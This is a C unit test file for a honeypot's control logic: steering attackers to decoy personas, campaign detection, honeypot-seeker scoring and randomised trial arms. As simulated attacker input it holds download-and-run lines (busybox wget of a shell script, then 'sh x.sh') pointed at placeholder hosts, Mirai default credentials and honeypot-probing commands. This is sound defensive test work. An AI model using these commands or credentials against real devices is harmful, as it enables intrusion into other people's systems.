/* What is known of sources, which campaigns they make, and whom the rules steer because of that. */
#include "control/room_inner.h"
#include "control/seekers_inner.h"
#include "tests/unit/control/case.h"
#include <stdlib.h>
#include <unistd.h>

#define SECOND 1000000u
#define HOUR (3600ull * SECOND)

static struct config config;
static struct control *control;
static struct event in;
static char directory[64];
static struct {
	unsigned campaigns, steered, not_steered, random;
	char rule[64], evidence[256], persona[32], unit[64], reason[24];
} told;

static void copy_text(const struct event *e, const char *field, char *to, size_t n)
{
	int number = field_find(bytes_of_text(field));
	CHECK(number >= 0);
	bytes_copy_text(event_bytes(e, (uint16_t)number), to, n);
}

static int publish(void *arg, struct event *e)
{
	(void)arg;
	if (e->kind == EVENT_CAMPAIGN_FOUND) {
		told.campaigns++;
		copy_text(e, "reason", told.reason, sizeof told.reason);
		return 0;
	}
	char decision[16], arm[16];
	copy_text(e, "decision", decision, sizeof decision);
	copy_text(e, "steer.arm", arm, sizeof arm);
	if (!strcmp(decision, "steered") || !strcmp(decision, "not-steered")) {
		told.steered += !strcmp(arm, "steered");
		told.random += !strcmp(arm, "random");
		told.not_steered += !strcmp(arm, "held-out");
		CHECK(!strcmp(arm, "held-out") == !strcmp(decision, "not-steered"));
		copy_text(e, "rule", told.rule, sizeof told.rule);
		copy_text(e, "evidence", told.evidence, sizeof told.evidence);
		copy_text(e, "persona", told.persona, sizeof told.persona);
		copy_text(e, "steer.unit", told.unit, sizeof told.unit);
	}
	return 0;
}

static void revoke_lease(void *arg, const struct address *a)
{
	(void)arg;
	(void)a;
}

static void room_open(void)
{
	struct fault fault = {0};
	memset(&told, 0, sizeof told);
	control = calloc(1, sizeof *control);
	CHECK(control != NULL);
	control->publish = publish;
	control->revoke = revoke_lease;
	CHECK(settings_read(&config, &control->settings, &fault) == 0);
	int bad = control_open(control, directory, NOW, &fault);
	CHECK_SAY(!bad, "%s", fault.text);
}

static void room_close(void)
{
	control_tell_all(control, NOW);
	control_close(control);
	settings_done(&control->settings);
	free(control);
}

static void begin_with(const char *passive, const char *yaml)
{
	snprintf(directory, sizeof directory, "/tmp/kansoku-steer-XXXXXX");
	CHECK(mkdtemp(directory) != NULL);
	config_of(passive, yaml, &config);
	room_open();
}

static void begin(const char *yaml) { begin_with("", yaml); }

static void end(void)
{
	char file[96];
	room_close();
	config_done(&config);
	static const char *const files[] = {"looks", "opted-out", "opt-out-key"};
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		snprintf(file, sizeof file, "%s/%s", directory, files[i]);
		unlink(file);
	}
	CHECK(rmdir(directory) == 0);
}

static void event_of(enum event_kind kind, uint32_t source, uint32_t session, const char *process)
{
	struct address a = address_v4(source), decoy = address_v4(0xc0000207);
	struct event_id id = {{0}};
	struct writer w = writer_of(id.b, sizeof id.b);
	write_u64(&w, NOW);
	write_u64(&w, (uint64_t)source << 32 | session);
	event_begin(&in, kind);
	in.time_us = NOW;
	in.id = id_make(&control->ids, NOW);
	event_set_address(&in, FIELD_SRC, &a);
	event_set_address(&in, FIELD_DST, &decoy);
	event_set_text(&in, FIELD_PROTO, "tcp");
	event_set_text(&in, FIELD_PROCESS, process);
	event_set_text(&in, FIELD_SERVICE, "telnet");
	if (session)
		event_set_id(&in, FIELD_SESSION, &id);
}

static void happen(void) { control_event(control, &in, 0, NOW); }

static void tries(uint32_t source, const char *user, const char *secret)
{
	event_of(EVENT_LOGIN_TRIED, source, 1, "passive");
	event_set_bytes(&in, FIELD_LOGIN_USER, bytes_of_text(user));
	event_set_bytes(&in, FIELD_LOGIN_SECRET, bytes_of_text(secret));
	happen();
}

static void says(uint32_t source, uint32_t session, const char *line)
{
	event_of(EVENT_COMMAND_SENT, source, session, "passive");
	event_set_bytes(&in, FIELD_COMMAND_LINE, bytes_of_text(line));
	happen();
}

static void leaves(uint32_t source, uint32_t session, const char *typist)
{
	int field = field_find(BYTES("typist"));
	CHECK(field >= 0);
	event_of(EVENT_SESSION_CLOSED, source, session, "passive");
	event_set_text(&in, (uint16_t)field, typist);
	happen();
}

static const char *met(uint32_t source)
{
	struct address a = address_v4(source);
	struct steer steer;
	return steers_find(control->steers, &a, &steer) ? steer.persona : NULL;
}

#define QUIET "active: {hold_out: 0}\n"
#define A 0x0b070001u

TEST(steer_knows_the_list_that_credentials_come_from)
{
	begin(QUIET "rules: [{name: bot, known: {credentials.list: mirai}, do: steer, persona: dvr}]\n");
	tries(A, "root", "xc3511");
	tries(A, "root", "xc3511"); /* the same again is no further one */
	tries(A, "root", "vizxv");
	tries(A, "root", "no such secret");
	CHECK(!met(A));
	tries(A, "admin", "admin");
	CHECK(met(A) && !strcmp(met(A), "dvr"));
	CHECK(told.steered == 1 && !strcmp(told.rule, "bot"));
	CHECK_SAY(!strcmp(told.evidence, "login.tried; credentials.list mirai (3 of 4 tried)"), "%s", told.evidence);
	CHECK(!strcmp(told.unit, "11.7.0.1"));
	event_of(EVENT_LOGIN_TRIED, A + 1, 1, "passive");
	event_set_text(&in, FIELD_PROTO, "udp"); /* anybody may have sent that */
	happen();
	struct address b = address_v4(A + 1);
	CHECK(!sources_find(control->sources, &b));
	end();
}

TEST(steer_goes_by_own_lists_tools_and_visits)
{
	begin(QUIET "control: {credential_lists: [{name: nas, pairs: ['admin:synopass'], least: 1}]}\n"
		    "rules:\n"
		    "  - {name: disks, known: {credentials.list: nas}, do: steer, persona: nas}\n"
		    "  - {name: swift, known: {tool: [masscan, zmap]}, do: steer, persona: router}\n"
		    "  - {name: person, known: {sessions.human: {min: 1}, sessions: {min: 2}, service: telnet}, do: steer,"
		    " persona: webserver}\n");
	tries(A, "admin", "synopass");
	CHECK(!strcmp(met(A), "nas"));
	event_of(EVENT_SCAN_SEEN, A + 1, 0, "telescope");
	event_set_text(&in, FIELD_TOOL, "masscan");
	happen();
	CHECK(!strcmp(met(A + 1), "router"));
	leaves(A + 2, 1, "human");
	CHECK(!met(A + 2)); /* it has come once */
	leaves(A + 2, 2, "unsure");
	CHECK(!strcmp(met(A + 2), "webserver"));
	leaves(A + 3, 1, "bot");
	leaves(A + 3, 2, "bot");
	CHECK(!met(A + 3));
	end();
}

TEST(steer_knows_who_looks_for_honeypots)
{
	static const struct {
		const char *line;
		unsigned least, most;
	} lines[] = {
		{"cat /proc/cpuinfo", 0, 0},
		{"/bin/busybox wget http://198.51.100.1/bins.sh", 0, 0},
		{"ls -la /opt/Cowrie", 60, 100},
		{"ls /home/richard", 60, 100},
		{"cat /.dockerenv; curl ifconfig.me", 40, 40},
	};
	for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
		unsigned score = seeker_score(seeker_signs_of_text(bytes_of_text(lines[i].line)));
		CHECK_SAY(score >= lines[i].least && score <= lines[i].most, "%s: %u", lines[i].line, score);
	}
	CHECK(seeker_score(seeker_signs_of_greeting(BYTES("SSH-1337-OpenSSH_9000"))) == 50);
	CHECK(seeker_signs_of_greeting(BYTES("SSH-2.0-Go")) == 0 && seeker_signs_of_greeting(BYTES("GET / HTTP/1.1")) == 0);
	begin(QUIET "rules: [{name: wary, known: {seeks_honeypots: {min: 60}}, do: steer, persona: webserver}]\n");
	event_of(EVENT_CLIENT_SEEN, A, 1, "passive");
	event_set_bytes(&in, FIELD_AGENT, BYTES("SSH-1337-x"));
	happen();
	CHECK(!met(A));
	says(A, 2, "systemd-detect-virt");
	CHECK(met(A) != NULL);
	CHECK_SAY(!strcmp(told.evidence, "command.sent; seeks_honeypots 70 (machine, greeting)"), "%s", told.evidence);
	end();
}

static void same_session(uint32_t source, const char *address)
{
	char line[64];
	snprintf(line, sizeof line, "wget http://%s/x%u.sh", address, source & 0xff);
	says(source, 1, "uname -a");
	says(source, 1, line);
	says(source, 1, "sh x.sh");
	leaves(source, 1, "bot");
}

TEST(steer_finds_campaigns_and_their_founders)
{
	begin(QUIET "rules: [{name: herd, on: campaign.found, known: {campaign.sources: {min: 3}}, do: steer, persona: dvr}]\n");
	same_session(A, "198.51.100.1");
	same_session(A, "198.51.100.1"); /* one source is no campaign */
	same_session(A + 1, "198.51.100.2");
	CHECK(told.campaigns == 0 && !met(A));
	same_session(A + 2, "198.51.100.3");
	CHECK(told.campaigns == 3 && !strcmp(told.reason, "commands") && control->totals.campaigns == 1);
	same_session(A + 3, "198.51.100.4");
	CHECK(told.campaigns == 4);
	struct address a = address_v4(A), d = address_v4(A + 3);
	uint64_t campaign = sources_find(control->sources, &a)->campaign;
	CHECK(campaign && sources_find(control->sources, &d)->campaign == campaign);
	CHECK(campaigns_sources(control->campaigns, campaign) == 4);
	CHECK(met(A) && met(A + 1) && met(A + 2) && met(A + 3)); /* founders, too */
	says(A + 9, 1, "uname -a");
	leaves(A + 9, 1, "bot");
	CHECK(told.campaigns == 4);
	room_close();
	room_open();
	CHECK(sources_find(control->sources, &a)->campaign == campaign);
	CHECK(campaigns_sources(control->campaigns, campaign) == 4);
	same_session(A + 4, "198.51.100.4"); /* joins what was found in the life before */
	CHECK(told.campaigns == 1 && met(A + 4));
	end();
}

TEST(steer_makes_campaigns_of_files_and_credentials)
{
	static const char digest[] = "5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef";
	begin(QUIET "control: {campaigns: true}\n");
	for (uint32_t i = 0; i < 3; i++) {
		event_of(EVENT_FILE_CAPTURED, A + i, 1, "passive");
		event_set_text(&in, FIELD_FILE_SHA256, digest);
		event_set_number(&in, FIELD_FILE_SIZE, 4000);
		happen();
	}
	CHECK(told.campaigns == 3 && !strcmp(told.reason, "file"));
	static const char *const secrets[] = {"a", "b", "c", "d", "e"};
	for (uint32_t i = 2; i < 6; i++) /* one of them belongs to a campaign already: the others join that */
		for (size_t k = 0; k < 5; k++)
			tries(A + i, "root", secrets[k]);
	CHECK(!strcmp(told.reason, "credentials"));
	struct address b = address_v4(A + 2), f = address_v4(A + 5);
	uint64_t campaign = sources_find(control->sources, &b)->campaign;
	CHECK(campaign != 0 && sources_find(control->sources, &f)->campaign != 0);
	tries(A + 7, "root", "b"); /* another order */
	tries(A + 7, "root", "a");
	tries(A + 7, "root", "c");
	tries(A + 7, "root", "d");
	struct address h = address_v4(A + 7);
	CHECK(!sources_find(control->sources, &h)->campaign);
	end();
}

TEST(steer_is_sticky_and_yields_only_to_rules_further_up)
{
	begin(QUIET "rules:\n"
		    "  - {name: first, on: file.captured, do: steer, persona: dvr}\n"
		    "  - {name: second, on: login.tried, do: steer, persona: camera}\n"
		    "  - {name: third, on: command.sent, do: steer, persona: router}\n");
	tries(A, "root", "a");
	CHECK(!strcmp(met(A), "camera"));
	says(A, 1, "ls");
	CHECK(!strcmp(met(A), "camera") && told.steered == 1);
	event_of(EVENT_FILE_CAPTURED, A, 1, "passive");
	happen();
	CHECK(!strcmp(met(A), "dvr") && told.steered == 2);
	tries(A, "root", "b");
	CHECK(!strcmp(met(A), "dvr") && told.steered == 2);
	end();
}

#define TRIAL "rules: [{name: all, on: login.tried, do: steer, persona: dvr}]\n"

TEST(steer_draws_arms_by_unit_and_keeps_them)
{
	enum { SOURCES = 2000 };
	static char first[SOURCES][32];
	begin_with("passive: {decoys: [{prefix: 192.0.2.0/28, personas: [camera, router, nas]}]}\n",
		   QUIET "control: {trial: {hold_out: 0.3, random: 0.5, seed: 7}}\n" TRIAL);
	for (uint32_t i = 0; i < SOURCES; i++) {
		tries(A + i * 256, "root", "a");
		CHECK(met(A + i * 256));
		snprintf(first[i], sizeof first[i], "%s", met(A + i * 256));
	}
	CHECK(told.not_steered > 0.26 * SOURCES && told.not_steered < 0.34 * SOURCES);
	CHECK(told.random > 0.31 * SOURCES && told.random < 0.39 * SOURCES);
	CHECK(told.steered + told.random + told.not_steered == SOURCES);
	room_close();
	room_open();
	for (uint32_t i = 0; i < SOURCES; i++)
		CHECK(!strcmp(met(A + i * 256), first[i])); /* from the state */
	end();
	begin_with("passive: {decoys: [{prefix: 192.0.2.0/28, personas: [camera, router, nas]}]}\n",
		   QUIET "control: {trial: {hold_out: 0.3, random: 0.5, seed: 7}}\n" TRIAL);
	for (uint32_t i = SOURCES; i-- > 0;) {
		tries(A + i * 256, "root", "a");
		CHECK(!strcmp(met(A + i * 256), first[i])); /* from the seed, on another sensor, in another order */
	}
	end();
}

TEST(steer_draws_whole_networks)
{
	begin(QUIET "control: {trial: {unit: prefix, hold_out: 0.5}}\n" TRIAL);
	unsigned held_out = 0;
	for (uint32_t network = 0; network < 200; network++) {
		const uint32_t base = A + network * 256;
		tries(base, "root", "a");
		tries(base + 100, "root", "a");
		CHECK(!*met(base) == !*met(base + 100));
		held_out += !*met(base);
	}
	CHECK(held_out > 70 && held_out < 130);
	CHECK(strstr(told.unit, ".0/24"));
	end();
}

TEST(steer_draws_whole_networks_of_ipv6)
{
	unsigned held_out = 0;
	begin(QUIET "control: {trial: {unit: prefix, hold_out: 0.5}}\n" TRIAL);
	for (unsigned network = 0; network < 100; network++) {
		struct steer found[2];
		for (unsigned host = 0; host < 2; host++) {
			char text[64];
			snprintf(text, sizeof text, "2a00:1:%x:%x::7", network, host * 5);
			struct address a = address_of(text);
			event_of(EVENT_LOGIN_TRIED, A, 1, "passive");
			in.count = 0;
			event_set_address(&in, FIELD_SRC, &a);
			event_set_text(&in, FIELD_PROCESS, "passive");
			happen();
			CHECK(steers_find(control->steers, &a, &found[host]));
		}
		CHECK(found[0].arm == found[1].arm && !strcmp(found[0].unit, found[1].unit));
		held_out += found[0].arm == ARM_HELD_OUT;
	}
	CHECK(held_out > 30 && held_out < 70 && strstr(told.unit, "::/48"));
	end();
}

TEST(steer_draws_whole_campaigns)
{
	unsigned held_out = 0;
	begin(QUIET "control: {trial: {unit: campaign, hold_out: 0.5}}\n"
		    "rules: [{name: herd, on: campaign.found, do: steer, persona: dvr}]\n");
	for (uint32_t campaign = 0; campaign < 60; campaign++) {
		char secret[8] = {(char)('a' + campaign / 26), (char)('a' + campaign % 26)};
		const uint32_t base = A + campaign * 65536;
		for (uint32_t member = 0; member < 4; member++) /* each in a network of its own */
			for (int k = 0; k < 4; k++) {
				secret[2] = (char)('0' + k);
				tries(base + member * 256, "root", secret);
			}
		for (uint32_t member = 0; member < 4; member++)
			CHECK(!*met(base + member * 256) == !*met(base));
		held_out += !*met(base);
	}
	CHECK(held_out > 15 && held_out < 45);
	CHECK(strlen(told.unit) == CAMPAIGN_TEXT_MAX - 1 && control->totals.campaigns == 60);
	end();
}

TEST(steer_holds_out_whom_looks_hold_out)
{
	begin("operator: {contact: a@b.c}\nactive: {hold_out: 0.5, scope: [11.0.0.0/8]}\n" TRIAL);
	for (uint32_t i = 0; i < 300; i++) {
		struct address a = address_v4(A + i * 256);
		tries(A + i * 256, "root", "a");
		CHECK(!*met(A + i * 256) == policy_is_held_out(&control->policy, &a, 0.5));
	}
	end();
}

TEST(steer_forgets_the_quietest_beyond_its_limit)
{
	begin(QUIET "control: {sources_max: 50, features_max: 50, campaigns: true}\n");
	for (uint32_t i = 0; i < 500; i++) {
		char secret[16];
		snprintf(secret, sizeof secret, "s%u", i);
		for (int k = 0; k < 5; k++) {
			secret[0]++;
			tries(A + i, "root", secret);
		}
	}
	struct address oldest = address_v4(A), newest = address_v4(A + 499);
	CHECK(sources_count(control->sources) == 50 && !sources_find(control->sources, &oldest));
	CHECK(sources_find(control->sources, &newest)->counts[COUNT_CREDENTIALS] == 5);
	control_keep_learned(control, NOW + HOUR);
	CHECK(!sources_next_changed(control->sources));
	end();
}

/* As the decoys work it out (passive/room/steering.c), which cannot ask the policy. */
TEST(steer_tells_decoys_which_are_silent)
{
	uint64_t key, below;
	unsigned silent = 0;
	begin_with("passive: {decoys: [{prefix: 192.0.2.0/24}]}\n", QUIET "control: {silent_decoys: 0.2}\n");
	policy_silence(&control->policy, &key, &below);
	for (uint32_t i = 0; i < 256; i++) {
		struct address decoy = address_v4(0xc0000200 + i);
		bool is = random_mix(address_hash(&decoy, key)) >> 11 < below;
		CHECK(is == policy_is_silent(&control->policy, &decoy));
		silent += is;
	}
	CHECK(silent > 20 && silent < 90);
	end();
}

static uint64_t erase(uint8_t type, uint32_t v4, uint64_t from, uint64_t to)
{
	uint8_t wire[64];
	struct address a = address_v4(v4);
	struct writer w = writer_of(wire, sizeof wire);
	write_u8(&w, type);
	write_u8(&w, 0);
	write_bytes(&w, a.b, sizeof a.b);
	write_u64(&w, from);
	write_u64(&w, to);
	return control_forget(control, writer_bytes(&w), NOW);
}

TEST(steer_forgets_whom_the_operator_erases)
{
	begin(QUIET "rules: [{name: bot, known: {credentials: {min: 1}}, do: steer, persona: dvr}]\n");
	struct address a = address_v4(A), b = address_v4(A + 1);
	for (uint32_t i = 0; i < 4; i++)
		tries(A + i, "root", "x");
	CHECK(met(A) && erase(1, A, 0, 0) == 1 && erase(1, A, 0, 0) == 0);
	CHECK(!met(A) && !sources_find(control->sources, &a) && sources_count(control->sources) == 3);
	room_close();
	room_open();
	CHECK(!met(A) && !sources_find(control->sources, &a) && met(A + 1) && sources_find(control->sources, &b));
	tries(A, "root", "y");
	CHECK(met(A) && sources_count(control->sources) == 4);
	CHECK(erase(3, 0, NOW - HOUR, NOW - 1) == 0 && erase(3, 0, NOW, NOW + 1) == 4);
	CHECK(!met(A + 1) && sources_count(control->sources) == 0);
	control_keep_learned(control, NOW + HOUR);
	end();
}

TEST(steer_documents_what_is_known)
{
	static char text[65536];
	FILE *f = fopen("docs/steering.md", "r");
	CHECK(f != NULL);
	struct bytes page = {(const uint8_t *)text, fread(text, 1, sizeof text, f)};
	fclose(f);
	for (unsigned i = 0; i < KNOWN_ATTRIBUTE_COUNT; i++) {
		char quoted[64];
		snprintf(quoted, sizeof quoted, "`%s`", known_name(i));
		CHECK_SAY(bytes_find(page, quoted) < page.len, "%s is not in docs/steering.md", quoted);
	}
	for (unsigned i = 0; i < SEEKER_SIGN_COUNT; i++) {
		char row[64];
		snprintf(row, sizeof row, "| `%s` | %u |", seeker_word(i), seeker_score(1u << i));
		CHECK_SAY(bytes_find(page, row) < page.len, "%s is not in docs/steering.md", row);
	}
}
